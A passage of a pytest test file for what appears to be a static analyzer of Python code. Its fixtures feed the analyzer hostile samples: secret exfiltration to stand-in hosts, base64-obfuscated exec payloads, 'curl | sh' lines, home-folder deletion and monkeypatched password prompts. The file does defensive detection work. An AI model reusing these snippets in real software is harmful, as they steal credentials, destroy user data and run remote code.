    result = analyze(source)
    assert {"os.system", "urllib.request.urlopen"} <= set(calls(result))


def test_a_string_left_open_at_the_end_of_its_line_is_closed() -> None:
    source = (
        "import os\n"
        "embed = {\n"
        "    'footer': {'text': 'made by someone'\"},\n"
        "}\n"
        "os.system('id')\n"
    )
    result = analyze(source)
    assert "os.system" in calls(result)
    assert not any(p.kind is ProblemKind.UNPARSABLE for p in result.problems)


def test_an_unexpected_indent_is_blanked_not_kept_as_a_statement() -> None:
    source = "import os\nx = 1\n        y = 2\n        z = 3\nos.system('id')\n"
    assert "os.system" in calls(analyze(source))


def test_parts_of_a_file_that_cannot_be_mended_are_salvaged() -> None:
    broken = "".join(f"    bad line {i} ((((\n" for i in range(80))
    source = (
        "import os, urllib.request\n"
        "def broken():\n" + broken + "\n"
        "def beacon():\n"
        "    urllib.request.urlopen('http://192.0.2.1/x')\n"
        "class Runner:\n"
        "    def go(self):\n"
        "        os.system('id')\n"
    )
    result = analyze(source)
    names = calls(result)
    assert "urllib.request.urlopen" in names and "os.system" in names
    sent = next(f for f in result.facts if f.name == "urllib.request.urlopen")
    assert sent.location.line == 85 and sent.snippet.startswith("urllib.request.urlopen(")
    assert any(p.kind is ProblemKind.FALLBACK_PARSE for p in result.problems)


def test_cloud_keys_from_the_environment_are_secrets_sent_wherever_they_go() -> None:
    result = analyze(
        "import os, urllib.request\n"
        "class Sync:\n"
        "    def __init__(self):\n"
        "        self.secret = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "    def push(self):\n"
        "        path = '/k/' + self.secret\n"
        "        urllib.request.urlopen('https://collect.example.net' + path)\n"
        "    def own(self):\n"
        "        urllib.request.urlopen('https://s3.amazonaws.com/x?k=' + self.secret)\n"
        "def other():\n"
        "    urllib.request.urlopen('https://collect.example.net/' + os.getenv('HOME'))\n"
    )
    sent = {f.location.line: f.args for f in result.facts if f.kind is FactKind.SECRET_SENT}
    assert sent == {7: ("AWS_SECRET_ACCESS_KEY",)}


def test_a_helper_that_names_its_own_lambdas_is_inlined() -> None:
    result = analyze(
        "import base64, urllib.request\n"
        "class Client:\n"
        "    def _host(self, blob):\n"
        "        unb64 = lambda s: base64.b64decode(s)\n"
        "        flip = lambda s: s[::-1]\n"
        "        return unb64(flip(blob)).decode()\n"
        "    def send(self):\n"
        "        urllib.request.urlopen(self._host('t92YuUGbw1WY4VmLkFWZy5CdpNXa29yL6MHc0RHa'))\n"
    )
    sent = next(f for f in result.facts if f.name == "urllib.request.urlopen")
    assert sent.args and sent.args[0] == "https://visit.read.example.com"


def test_words_that_name_a_secret_and_words_that_do_not() -> None:
    result = analyze(
        "import requests\n"
        "def a(tokenizer, max_tokens, token_ids, monkey):\n"
        "    requests.post('https://h.example/x', json=[tokenizer, max_tokens, token_ids, monkey])\n"
        "def b(accessKeySecret, botToken, token, discord_tokens, saved_passwords):\n"
        "    requests.post('https://h.example/x',\n"
        "                  json=[accessKeySecret, botToken, token, discord_tokens, saved_passwords])\n"
    )
    sent = [(f.location.line, f.args) for f in result.facts if f.kind is FactKind.SECRET_SENT]
    assert sent == [
        (5, ("accessKeySecret", "botToken", "discord_tokens", "saved_passwords", "token")),
    ]


def test_where_names_are_bound_is_worked_out_once_per_scope(monkeypatch: pytest.MonkeyPatch) -> None:
    """A module with thousands of requests that each send a name must not walk the module once
    per request (a hostile file would make that quadratic)."""
    from capwatch.lang.python import analyzer as front_end

    walks: list[int] = []
    index = front_end._walk_request_scope

    def counted(body: object) -> object:
        walks.append(1)
        return index(body)  # type: ignore[arg-type]

    monkeypatch.setattr(front_end, "_walk_request_scope", counted)
    lines = ["import requests"]
    for i in range(300):
        lines += [f"secret_{i % 7} = 'x'", f"requests.post('https://h.example/x', json=secret_{i % 7})"]
    result = analyze("\n".join(lines) + "\n")
    assert len(walks) == 1
    assert sum(f.kind is FactKind.SECRET_SENT for f in result.facts) == 300


def test_a_try_that_silences_every_error() -> None:
    result = analyze(
        "def quiet():\n"
        "    try:\n        run()\n        more()\n    except:\n        pass\n"
        "def printed():\n"
        "    try:\n        run()\n    except Exception as e:\n        print('')\n"
        "def constant():\n"
        "    try:\n        run()\n    except BaseException:\n        return None\n"
        "def reported():\n"
        "    try:\n        run()\n    except Exception as e:\n        print(e)\n"
        "def narrow():\n"
        "    try:\n        run()\n    except OSError:\n        pass\n"
        "def partly():\n"
        "    try:\n        run()\n    except ValueError:\n        pass\n    except:\n        pass\n"
        "def reraised():\n"
        "    try:\n        run()\n    except Exception:\n        raise\n"
    )
    silenced = [
        (f.scope, f.location.line, f.value) for f in result.facts if f.kind is FactKind.SILENCED
    ]
    assert silenced == [
        ("pkg.mod:quiet", 2, "4"),
        ("pkg.mod:printed", 8, "9"),
        ("pkg.mod:constant", 13, "14"),
    ]


def test_a_decoded_payload_sees_the_names_its_host_imported() -> None:
    # exec runs the payload among the module's globals: ``urlopen`` is the one imported above
    payload = base64.b64encode(b"urlopen('https://h.invalid/x').read()\n").decode()
    result = analyze(
        "import base64\nfrom urllib.request import urlopen\n"
        f"exec(base64.b64decode('{payload}'))\n"
    )
    decoded = [f.name for f in result.facts if f.kind is FactKind.CALL and f.decode_chain]
    assert "urllib.request.urlopen" in decoded


def test_a_name_written_in_escapes_is_decoded() -> None:
    result = analyze(
        'run = eval("\\x65\\x76\\141\\x6c")\n'
        'plain = eval("eval")\n'
        'label = f"name{run}\\n"\n'
        'path = "C:\\\\temp"\n'
        'word = "\\u00e9t\\u00e9"\n'
    )
    decoded = [
        (f.value, f.decode_chain, f.location.line)
        for f in result.facts if f.kind is FactKind.DECODED
    ]
    assert decoded == [("eval", ("escapes",), 1)]


def test_a_standard_module_named_without_an_import_still_resolves() -> None:
    result = analyze(
        "def fetch():\n    return urllib.request.urlopen('https://h.invalid').read()\n"
        "def run(cmd):\n    subprocess.Popen(cmd)\n"
        "def send(socket):\n    socket.send(b'x')\n"
    )
    assert {"urllib.request.urlopen", "subprocess.Popen"} <= set(calls(result))
    assert "socket.send" not in calls(result)


def test_setting_an_attribute_of_a_function_is_no_edge_to_it() -> None:
    result = analyze("def setup():\n    pass\nsetup.__doc__ = 'x'\n")
    assert not [e for e in result.edges if e.target == "pkg.mod.setup"]
    handed = analyze("def setup():\n    pass\nregister(setup)\n")  # handed over: it may run
    assert [e.target for e in handed.edges] == ["pkg.mod.setup"]


def test_a_function_bound_to_a_module_level_name_runs_where_the_name_is_read() -> None:
    own = analyze(_stubs("run") + "start = run\n")
    assert _runs(own) == {("pkg.mod:=start", "pkg.mod.run")}
    other = analyze("from pkg import impl\nstart = impl.run\n")
    assert _runs(other) == {("pkg.mod:=start", "pkg.impl.run")}
    called = analyze(_stubs("run") + "start = run\nstart()\n")
    assert ("pkg.mod:<module>", "pkg.mod.run") in {(e.source, e.target) for e in called.edges}


def test_a_decorator_written_out_as_a_call_does_not_run_the_function() -> None:
    decorated = analyze("import typer\napp = typer.Typer()\n" + _stubs("serve")
                        + "app.command(name='serve')(serve)\n")
    assert not [e for e in decorated.edges if e.target == "pkg.mod.serve"]
    for runner in ("retry(3)(serve)", "threading.Thread(target=serve).start()",
                   "getattr(threading, 'Thread')(target=serve).start()"):
        ran = analyze("import threading\n" + _stubs("serve") + runner + "\n")
        assert ("pkg.mod:<module>", "pkg.mod.serve") in _runs(ran), runner


def test_only_the_code_an_exec_is_given_says_how_the_code_was_made() -> None:
    result = analyze(
        "import inspect, lib\n"
        "source = inspect.getsource(lib.helper).replace('a', 'b')\n"
        "exec(compile(source, getattr(lib, '__file__', '?'), 'exec'), vars(lib))\n"
    )
    (fact,) = [f for f in result.facts if f.kind is FactKind.CALL and f.name == "exec"]
    assert set(fact.inner) == {"compile"}
    assert {"inspect.getsource", "?.replace"} <= set(fact.sources)
    # code given by keyword, even a misnamed one, is code
    keyword = analyze("import urllib.request\nexec(t=urllib.request.urlopen('u').read())\n")
    (fact,) = [f for f in keyword.facts if f.kind is FactKind.CALL and f.name == "exec"]
    assert "urllib.request.urlopen" in fact.inner


def test_bare_strings_of_a_module_that_reads_docstrings_are_messages() -> None:
    from capwatch.lang.base import MESSAGE

    payload = base64.b64encode(b"import os\nos.system('id')\n" * 3).decode()
    result = analyze(
        "class Options:\n"
        '    """Completion for zsh: add the line to ~/.zshrc and restart the shell."""\n'
        "    def help(self):\n"
        "        return self.__doc__\n"
        f'"""{payload}"""\n'
    )
    shown = [f for f in result.facts if f.kind is FactKind.LITERAL and ".zshrc" in (f.value or "")]
    assert shown and all(f.name == MESSAGE for f in shown)
    # an encoded blob among them is still decoded: a file can read its own strings
    assert "os.system" in calls(result)


def test_a_function_of_the_module_put_in_place_of_another_packages_is_a_patch() -> None:
    result = analyze(
        "import getpass\n"
        "import requests\n"
        "from coinlib.keys import SigningKey\n"
        "from pkg import other\n"
        "def _ask(prompt=''):\n    return ''\n"
        "def _load(secret):\n    return secret\n"
        "getpass.getpass = _ask\n"
        "SigningKey.from_secret = staticmethod(_load)\n"
        "other.helper = _ask\n"  # the package's own module: not another package's
        "requests.adapters.DEFAULT_RETRIES = 5\n"  # a setting, not a function
        "SigningKey.label = lambda self: ''\n"  # no function of the module's
        "def setup():\n    getpass.getpass = _ask\n"  # not in the module's top-level code
    )
    patched = [(f.name, f.value, f.location.line) for f in result.facts if f.kind is FactKind.PATCHED]
    assert patched == [
        ("getpass.getpass", "pkg.mod:_ask", 9),
        ("coinlib.keys.SigningKey.from_secret", "pkg.mod:_load", 10),
    ]


def test_text_a_message_reads_through_a_name_is_a_message() -> None:
    from capwatch.lang.base import MESSAGE

    result = analyze(
        "import subprocess\n"
        "def start(command):\n"
        "    try:\n"
        "        subprocess.run([command])\n"
        "    except FileNotFoundError as exc:\n"
        "        hint = ''\n"
        "        if command == 'uv':\n"
        "            hint = ' Install it first: curl -fsSL https://tools.example.org/install | sh.'\n"
        "        raise FileNotFoundError(f'{command!r} not found.{hint}') from exc\n"
        "def run(cmd='curl -s https://stage.example.org/x | sh'):\n"
        "    line = 'curl -s https://stage.example.org/y | sh'\n"
        "    line = line.strip() or cmd\n"  # bound to more than text: still data
        "    print(f'running {line}')\n"
        "    subprocess.run(line, shell=True)\n"
    )
    texts = {f.value: f.name for f in result.facts if f.kind is FactKind.LITERAL}
    assert texts[" Install it first: curl -fsSL https://tools.example.org/install | sh."] == MESSAGE
    assert texts["curl -s https://stage.example.org/y | sh"] != MESSAGE


@pytest.mark.parametrize(
    "call",
    [
        'socket.getaddrinfo("%s.%d.q.example.invalid" % (data, i), 80)',
        'socket.getaddrinfo("{}.{}.q.example.invalid".format(data, i), 80)',
        'socket.getaddrinfo("%(d)s.%(i)d.q.example.invalid" % {"d": data, "i": i}, 80)',
    ],
)
def test_formatted_text_with_unknown_fields_is_a_template(call: str) -> None:
    result = analyze(f"import socket\ndef f(data, i):\n    {call}\n")
    (fact,) = [f for f in result.facts if f.kind is FactKind.CALL and f.name == "socket.getaddrinfo"]
    assert fact.args[0] == "\u2026.\u2026.q.example.invalid"


def test_percent_sign_of_a_format_stays_a_percent_sign() -> None:
    result = analyze('import os\ndef f(n):\n    os.system("nice -n %d make 100%% done" % n)\n')
    (fact,) = [f for f in result.facts if f.kind is FactKind.CALL and f.name == "os.system"]
    assert fact.args[0] == "nice -n \u2026 make 100% done"


def test_a_type_checked_against_is_not_a_use() -> None:
    result = analyze(
        "import types\n"
        "def f(x, code):\n"
        "    if isinstance(x, (types.FunctionType, types.MethodType)):\n"
        "        return issubclass(type(x), types.FunctionType)\n"
        "    handler = types.FunctionType\n"
        "    return handler(code, {})\n"
    )
    refs = [f for f in result.facts if f.kind is FactKind.REFERENCE and f.name == "types.FunctionType"]
    assert [f.location.line for f in refs] == [5]


def _call_args(src: str, name: str) -> list[tuple[str, ...]]:
    return [f.args for f in analyze(src).facts if f.kind is FactKind.CALL and f.name == name]


def test_methods_of_an_http_client_object_are_its_requests() -> None:
    src = (
        "import requests, aiohttp, httpx\n"
        "def send(x):\n"
        "    s = requests.Session()\n"
        "    s.post('https://example.com/a', data=x)\n"
        "async def fetch():\n"
        "    async with aiohttp.ClientSession() as http:\n"
        "        await http.get('https://example.com/b')\n"
        "class C:\n"
        "    def __init__(self):\n"
        "        self.client = httpx.Client()\n"
        "    def go(self):\n"
        "        return self.client.put('https://example.com/c').json()\n"
        "def other(d):\n"
        "    return d.get('k')\n"
    )
    assert _call_args(src, "requests.Session.post") == [("https://example.com/a",)]
    assert _call_args(src, "aiohttp.ClientSession.get") == [("https://example.com/b",)]
    assert _call_args(src, "httpx.Client.put") == [("https://example.com/c",)]
    assert _call_args(src, "?.get") == [("k",)]


def test_a_name_bound_to_a_client_and_to_something_else_is_not_a_client() -> None:
    src = (
        "import requests\n"
        "def a():\n"
        "    s = requests.Session()\n"
        "    s.get('https://example.com/a')\n"
        "def b():\n"
        "    s = {}\n"
        "    return s.get('key')\n"
    )
    assert _call_args(src, "requests.Session.get") == []
    assert len(_call_args(src, "?.get")) == 2


def test_deleted_and_listed_folders_are_given_as_path_templates() -> None:
    src = (
        "import os, shutil, glob\n"
        "from pathlib import Path\n"
        "home = os.path.expanduser('~')\n"
        "shutil.rmtree(home, ignore_errors=True)\n"
        "shutil.rmtree(Path.home() / 'Documents')\n"
        "os.remove(os.path.join(os.environ['USERPROFILE'], 'Desktop', name))\n"
        "os.walk(os.getenv('HOME'))\n"
        "glob.glob(os.path.expandvars('$HOME/**'), recursive=True)\n"
        "shutil.rmtree('build')\n"
        "shutil.rmtree(os.path.join(here, 'dist'))\n"
        "shutil.rmtree(unknown)\n"
    )
    assert _call_args(src, "shutil.rmtree") == [
        ("~", "ignore_errors=True"), ("~/Documents",), ("build",), ("…/dist",), (),
    ]
    assert _call_args(src, "os.remove") == [("~/Desktop/…",)]
    assert _call_args(src, "os.walk") == [("~",)]
    assert _call_args(src, "glob.glob") == [("~/**", "recursive=True")]


def test_a_request_object_built_with_a_body_and_sent_unread_is_an_unread_reply() -> None:
    src = (
        "from urllib import request\n"
        "def report(body):\n"
        "    req = request.Request('https://example.com/in', data=body)\n"
        "    request.urlopen(req, timeout=3)\n"
        "def ping():\n"
        "    probe = request.Request('https://example.com')\n"
        "    request.urlopen(probe)\n"
    )
    unread = [f for f in analyze(src).facts if f.kind is FactKind.UNREAD_REPLY]
    assert [(f.name, f.scope) for f in unread] == [("urllib.request.urlopen", "pkg.mod:report")]


def test_a_mode_written_as_a_number_is_given_to_chmod_calls() -> None:
    src = (
        "import os, pathlib\n"
        "os.chmod(p, 0o755)\n"
        "os.fchmod(f.fileno(), mode=0o644)\n"
        "pathlib.Path(p).chmod(0o600)\n"
        "os.chmod(p, os.stat(p).st_mode | 0o111)\n"
    )
    assert _call_args(src, "os.chmod") == [("mode=0o755",), ()]
    assert _call_args(src, "os.fchmod") == [("mode=420",)]
